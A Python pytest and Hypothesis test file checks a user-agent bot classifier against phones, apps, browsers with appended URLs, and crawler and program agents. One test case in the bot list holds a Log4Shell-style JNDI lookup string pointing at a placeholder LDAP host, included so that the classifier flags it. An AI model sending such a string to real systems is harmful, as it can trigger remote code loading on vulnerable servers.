"""Bots are those that is-bot finds, found faster, and not those of which only a model or an appended address is one."""

from itertools import islice

import pytest
import regex
from hypothesis import example, given
from hypothesis import strategies as st
from is_bot import Bots

from services.enrich.attributes.bots import _APPS, _DEVICE, _OWN_PATTERNS, is_bot
from services.enrich.attributes.own_words import own_words
from services.traffic.user_agents import BOTS, BROWSERS
from shared.events.raw import decode_raw
from shared.events.schema import RawEvent
from tests.support.samples.mutations import mutated_events

_library = Bots()
_own = regex.compile("|".join(_OWN_PATTERNS), regex.IGNORECASE)

WORDS = [
    *("Mozilla/5.0", "(compatible;", "Googlebot/2.1;", "+http://www.google.com/bot.html)", "CUBOT", "cubots", "bot_"),
    *("scan", "camscan", "libhttp", "javascript", "java;", "java", "google pixel", "channel/google", "SmartNews"),
    *("python-requests/2.31", "curl/8", "(X11; Linux x86_64)", "AppleWebKit/537.36", "Safari/604.1", "()", "wget"),
    *("mozilla/5.0 (compatible; x-y.z/1.0)", "spider", "crawler", "headless", "Chrome/142.0.0.0", "K", "|", "News"),
]


def test_simulated_people_and_bots_are_classified() -> None:
    assert all(is_bot(bot.user_agent) for bot in BOTS)
    assert not any(is_bot(browser.user_agent) for browser in BROWSERS)


ASCII = st.text(st.characters(codec="ascii"), max_size=8)


@example(["Mozilla/5.0", "\n"], "")
@given(st.lists(st.sampled_from(WORDS) | ASCII, max_size=8), st.sampled_from(["", " ", "/", "; "]))
def test_any_agent_is_classified_as_by_the_library(words: list[str], joint: str) -> None:
    check_against_library(joint.join(words))


def check_against_library(user_agent: str) -> None:
    is_exempt = own_words(user_agent) != user_agent or _DEVICE.search(user_agent) is not None
    if not is_exempt:
        assert is_bot(user_agent) == (_library.is_bot(user_agent) or _own.search(user_agent) is not None)
    elif not _library.is_bot(user_agent) and _own.search(user_agent) is None:
        assert not is_bot(user_agent)


def test_mutated_agents_are_classified_as_by_the_library() -> None:
    events = (decode_raw(value) for value in islice(mutated_events(3), 6000))
    agents = {event.userAgent[:512] for event in events if isinstance(event, RawEvent) and event.userAgent}
    ascii_agents = [agent for agent in agents if agent.isascii()]
    assert len(ascii_agents) > 50
    for agent in ascii_agents:
        check_against_library(agent)


WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
CHROME = f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {WEBKIT} Chrome/142.0.0.0 Safari/537.36"
PHONE = f"{WEBKIT} Chrome/142.0.0.0 Mobile Safari/537.36"
IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"


@pytest.mark.parametrize(
    "user_agent",
    [
        # phones whose model is a crawler's word
        f"Mozilla/5.0 (Linux; Android 5.1; M BOT 551 Build/LMY47D) {PHONE}",
        f"Mozilla/5.0 (Linux; U; Android 7.0; fr-fr; M_bot_60 Build/NRD90M; wv) {PHONE}",
        f"Mozilla/5.0 (Linux; Android 9; SPIDER X (2021)) {PHONE}",
        f"Mozilla/5.0 (Linux; Android 4.4.2; Discovery) {PHONE}",
        f"Mozilla/5.0 (Linux; Android 8.1.0; Capture+) {PHONE}",
        f"Mozilla/5.0 (Linux; Android 11; OK Google TV Build/RTM7) {PHONE}",
        "Mozilla/5.0 (compatible; MSIE 9.0; Windows Phone OS 7.5; Trident/5.0; IEMobile/9.0; HTC; Radar 4G)",
        "Dalvik/2.1.0 (Linux; U; Android 5.1; M BOT 551 Build/LMY47D)",
        f"Mozilla/5.0 (Linux; Android 14; SM-S921B; wv) {PHONE} [FB_IAB/FB4A;FBDV/M BOT 60;FBCR/Scan Mobile;]",
        # a browser with something appended
        f"{CHROME} https://shop.example/spider-man/2",
        f"{CHROME} www.shop.example",
        f"{CHROME} [https://shop.example]",
        f"{CHROME} initiator/https://shop.example",
        f"{CHROME} ||| ReqID: 47 | TabID: 64 | Type: xmlhttprequest | Initiator: https://shop.example",
        f"{CHROME} - https://shop.example/search?q=a+b",
        f"{CHROME} https://shop.example https://cdn.example",
        f"{CHROME} (initiator: https://shop.example)",
        f"{CHROME} (initiator: https://shop.example/robot)",
        f"{CHROME} ||| ReqID: 47 | Initiator: https://crawler.example/spider",
        f"{CHROME} https://shop.example/a?utm_source=bot",
        f'{CHROME} {{"initiator":"https://shop.example"}}',
        f"{CHROME} OPR/120.0.0.0 (Edition std-1) https://shop.example",
        f"{CHROME} ()",
        f"{IPHONE} Safari/604.1 http://shop.example/?a=b",
        "Mozilla/5.0 (Windows; U; Windows NT 5.1) AppleWebKit/527+ (KHTML, like Gecko) Any Browser/3.0 http://any.example",
        # apps that name their phone
        "[FBAN/FB4A;FBAV/567.1.0.52.74;FBDM/{density=3.0,width=1080};FBPN/com.facebook.katana;FBDV/SM-S921B;FBSV/16]",
        "[FBAN/FBIOS;FBAV/450.0.0.38;FBBV/1;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.4;FBID/phone;FBLC/en_US]",
        "Instagram 312.0.0.0 (iPhone14,5; iOS 17_4; en_US; en; scale=3.00; 1170x2532; 548)",
        "com.google.android.youtube/21.31.525(Linux; U; Android 12; es_US; T431A Build/SP1A.210812.016) gzip",
        "iPhoneSE",
        f"Mozilla/5.0 (Linux; GoogleTV 3.2; VAP430 Build/MASTER) {WEBKIT} Chrome/11.0.696.77 Safari/534.24",
        f"{IPHONE} NewsArticle/8.2.7.4",
        f"{IPHONE} SmartNews/23.1",
        f"Mozilla/5.0 (Linux; Android 12; LGE-AN10; wv) {PHONE} MicroMessenger/8.0.21 Process/tools WeChat",
        f"Mozilla/5.0 (Linux; Android 6.0; V1M; wv) {PHONE} SogouMSE,SogouMobileBrowser/5.24.6",
        "SonyEricssonJ10i2/R1x Browser/NetFront/3.5 Profile/MIDP-2.1 Configuration/CLDC-1.1 JavaPlatform/JP-8.5",
    ],
)
def test_people_are_not_bots(user_agent: str) -> None:
    assert not is_bot(user_agent)


@pytest.mark.parametrize(
    "user_agent",
    [
        f"Mozilla/5.0 (Linux; Android 5.1; M BOT 551 Build/LMY47D) {PHONE} (compatible; Googlebot/2.1)",
        f"Mozilla/5.0 (Linux; Android 8.0; Pixel 2 Build/OPD3; Storebot-Google/1.0) {PHONE}",
        f"Mozilla/5.0 (Linux; Android 8.0; ExampleCrawler/1.0) {PHONE}",
        f"{CHROME} https://example.com/crawler",
        f"{CHROME} https://shop.example https://example.com/bot.html",
        f"{CHROME} +https://example.com",
        f"{CHROME} (+https://example.com)",
        f"{CHROME} (compatible; Example; https://example.com)",
        f"{CHROME} Preloader",
        f"{CHROME} Cache Warmer",
        f"Mozilla/5.0 (Linux; Android 10; K) {PHONE} WP Rocket/Preload",
        "Chrome Privacy Preserving Prefetch Proxy",
        f"Thumbor/6.7.5, Mozilla/5.0 (Linux; Android 9; RAZER Phone Build/NMF26F) {PHONE}",
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT) NewsNow/1.0",
        f"{IPHONE} MicroMessenger/7.0.12 wechatdevtools",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Example-User/0.1) Chrome/119.0 Safari/537.36",
        f"{CHROME}${{jndi:ldap://a.example}}",
        "okhttp/4.9.3",
    ],
)
def test_programs_are_bots(user_agent: str) -> None:
    assert is_bot(user_agent)


def test_library_has_the_patterns_that_are_treated_apart() -> None:
    assert {*_APPS, "tools"} <= Bots().patterns
